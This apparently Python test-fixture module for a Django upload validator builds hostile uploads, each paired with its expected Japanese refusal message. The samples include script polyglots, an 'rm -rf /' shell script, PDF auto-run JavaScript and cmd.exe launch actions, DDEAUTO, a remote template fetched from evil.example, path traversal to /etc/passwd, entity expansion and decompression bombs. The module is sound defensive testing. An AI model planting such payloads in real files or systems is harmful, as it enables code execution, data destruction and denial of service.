"""Files as people send them, and as somebody would build them who means harm."""

import io
import struct
import zipfile
import zlib
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

MAIN = "application/vnd.openxmlformats-officedocument.{}+xml"
KINDS = {
    "docx": ("word/document.xml", MAIN.format("wordprocessingml.document.main")),
    "xlsx": ("xl/workbook.xml", MAIN.format("spreadsheetml.sheet.main")),
    "pptx": ("ppt/presentation.xml", MAIN.format("presentationml.presentation.main")),
}


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def pdf(inside: bytes = b"", *, stream: bytes | None = None, before: bytes = b"", after: bytes = b"") -> bytes:
    """A small PDF; `inside` stands in its catalogue, `stream` is the packed stream of a further object."""
    more = b""
    if stream is not None:
        more = b"4 0 obj <</Type /ObjStm /Filter /FlateDecode /Length %d>>\nstream\n%s\nendstream endobj\n" % (
            len(stream),
            stream,
        )
    return (
        b"%PDF-1.7\n" + before + b"1 0 obj <</Type /Catalog /Pages 2 0 R " + inside + b">> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n"
        b"3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>> endobj\n"
        + more
        + b"trailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
        + after
    )


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **more: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (12, 120, 200)).save(out, kind, **more)
    return out.getvalue()


def photograph() -> bytes:
    """As a telephone makes it: turned, and with the place where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Cnry Camera"
    exif.get_ifd(0x8825).update({1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (139.0, 41.0, 30.0)})
    return picture(exif=exif.tobytes(), comment=b"Cnry Comment")


def written_on() -> bytes:
    """A PNG with words in it."""
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", "Cnry Author")
    return picture("PNG", pnginfo=words)


def pixel_flood() -> bytes:
    """A PNG of a few bytes that says it is 50,000 pixels wide and high."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 200_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def office(kind: str = "docx", parts: dict[str, bytes] | None = None, *, types: str = "", **more: Any) -> bytes:
    """A package as Word, Excel or PowerPoint would know it, with `parts` beside its own."""
    name, main = KINDS[kind]
    said = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{name}" ContentType="{more.get("main", main)}"/>{types}</Types>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", said)
        package.writestr(name, b"<document>hello</document>")
        for place, part in (parts or {}).items():
            package.writestr(place, part)
    return out.getvalue()


def links(kind: str, target: str, *, outside: bool = True) -> bytes:
    """The links of a document, one of them to somewhere."""
    mode = ' TargetMode="External"' if outside else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
        "</Relationships>"
    ).encode()


def archive(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return out.getvalue()


def bomb(parts: int, size: int) -> bytes:
    """A document that is small and becomes very large."""
    return office(parts={f"word/media/{number}.bin": b"\0" * size for number in range(parts)})


OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SCRIPT = b"<script>alert(1)</script>"
DTD = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
RELS = "word/_rels/document.xml.rels"

# What is sent, as what it is called, and a word of the sentence with which it is refused.
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "nothing": ("a.pdf", b"", "中身がありません"),
    "html": ("a.txt", b"<!DOCTYPE html><html>" + SCRIPT, "HTML"),
    "html called a picture": ("a.jpg", b"<html>" + SCRIPT, "HTML"),
    "html after blanks": ("a.txt", b"\n\n   hello\n<  SCRIPT >x</script>", "HTML"),
    "svg": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "HTML"),
    "svg called png": ("a.png", b'<?xml version="1.0"?><svg onload="x()"/>', "HTML"),
    "shell script": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "HTML"),
    "rtf": ("a.doc", b"{\\rtf1 hello}", "HTML"),
    "program": ("a.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 90, "この種類"),
    "linux program": ("a.txt", b"\x7fELF\x02\x01\x01" + b"\0" * 90, "この種類"),
    "old word": ("a.docx", OLD_OFFICE, "この種類"),
    "gif": ("a.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00", "この種類"),
    "gif and script": ("a.txt", b"GIF89a=1;alert(1)//", "HTML"),
    "rar": ("a.pdf", b"Rar!\x1a\x07\x01\x00" + b"\xff" * 50, "この種類"),
    "gzip": ("a.txt", b"\x1f\x8b\x08\x00" + b"\xff" * 50, "この種類"),
    "zip": ("a.zip", archive(a=b"hello"), "圧縮ファイル"),
    "zip called docx": ("a.docx", archive(a=b"hello"), "圧縮ファイル"),
    "broken zip": ("a.docx", b"PK\x03\x04" + b"\0" * 60, "圧縮ファイル"),
    "text and pdf": ("a.txt", b"hello\n%PDF-1.4\n", "HTML"),
    "pdf with javascript": ("a.pdf", pdf(b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>"), "自動で動く"),
    "pdf with hidden name": ("a.pdf", pdf(b"/OpenAction <</S /J#61vaScript /JS (x)>>"), "自動で動く"),
    "pdf that launches": ("a.pdf", pdf(b"/OpenAction <</S /Launch /F (cmd.exe)>>"), "自動で動く"),
    "pdf with a file": ("a.pdf", pdf(b"/Names <</EmbeddedFiles 9 0 R>>"), "自動で動く"),
    "pdf with packed javascript": (
        "a.pdf",
        pdf(stream=zlib.compress(b"5 0 <</S /JavaScript /JS (x)>>")),
        "自動で動く",
    ),
    "pdf with packed hidden name": (
        "a.pdf",
        pdf(stream=zlib.compress(b"5 0 <</S /#4aavaScript /JS (x)>>")),
        "自動で動く",
    ),
    "pdf with what cannot be unpacked": ("a.pdf", pdf(stream=b"<~87cURD]i,~>"), "最後まで読めません"),
    "pdf bomb": ("a.pdf", pdf(stream=zlib.compress(b"\0" * 25_000_000, 9)), "大きくなりすぎ"),
    "locked pdf": ("a.pdf", pdf(b"/Encrypt 9 0 R"), "保護"),
    "pdf and html": ("a.pdf", pdf(before=b"%<html>" + SCRIPT + b"\n"), "自動で動く"),
    "pdf and zip": ("a.pdf", pdf(after=archive(a=b"hello")), "自動で動く"),
    "pdf and more": ("a.pdf", pdf(after=b"x" * 200), "自動で動く"),
    "pdf without end": ("a.pdf", b"%PDF-1.7\n1 0 obj", "最後まで読めません"),
    "broken jpeg": ("a.jpg", photograph()[:300], "画像として開けません"),
    "jpeg that is none": ("a.jpg", b"\xff\xd8\xff" + SCRIPT, "画像として開けません"),
    "sound called webp": ("a.webp", b"RIFF\x24\x00\x00\x00WAVEfmt ", "画像として開けません"),
    "pixel flood": ("a.png", pixel_flood(), "画像"),
    "macro type": ("a.docm", office(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "マクロ"),
    "macro part": ("a.docx", office(parts={"word/vbaProject.bin": OLD_OFFICE}), "マクロ"),
    "macro under another name": ("a.docx", office(parts={"word/media/image1.png": OLD_OFFICE}), "マクロ"),
    "embedded object": ("a.pptx", office("pptx", {"ppt/embeddings/oleObject1.bin": OLD_OFFICE}), "マクロ"),
    "program inside": ("a.docx", office(parts={"word/media/a.png": b"MZ\x90\x00"}), "マクロ"),
    "archive inside": ("a.xlsx", office("xlsx", {"xl/media/a.bin": archive(a=b"x")}), "マクロ"),
    "macro in an embedded workbook": (
        "a.pptx",
        office("pptx", {"ppt/embeddings/w.xlsx": office("xlsx", {"xl/vbaProject.bin": OLD_OFFICE})}),
        "マクロ",
    ),
    "dde": ("a.docx", office(parts={"word/header1.xml": b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}), "マクロ"),
    "template from elsewhere": (
        "a.docx",
        office(parts={"word/_rels/settings.xml.rels": links("attachedTemplate", "https://evil.example/t.dotm")}),
        "外部のファイル",
    ),
    "link to a share": ("a.docx", office(parts={RELS: links("hyperlink", "file://evil/share")}), "外部のファイル"),
    "workbook from elsewhere": (
        "a.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "外部のファイル",
    ),
    "entities": ("a.docx", office(parts={"word/styles.xml": DTD}), "読めませんでした"),
    "entities in utf-16": ("a.docx", office(parts={"word/styles.xml": DTD.decode().encode("utf-16")}), "読めません"),
    "path out of the package": ("a.docx", office(parts={"../../etc/passwd": b"x"}), "読めませんでした"),
    "two kinds at once": (
        "a.docx",
        office(types=f'<Override PartName="/xl/workbook.xml" ContentType="{KINDS["xlsx"][1]}"/>'),
        "読めませんでした",
    ),
    "zip bomb": ("a.docx", bomb(parts=3, size=25_000_000), "大きくなりすぎ"),
    "large part": ("a.docx", bomb(parts=1, size=31_000_000), "大きくなりすぎ"),
    "many parts": ("a.docx", bomb(parts=1600, size=1), "大きくなりすぎ"),
    "too large": ("a.txt", b"a" * (5 * 1024 * 1024 + 1), "5MB"),
}
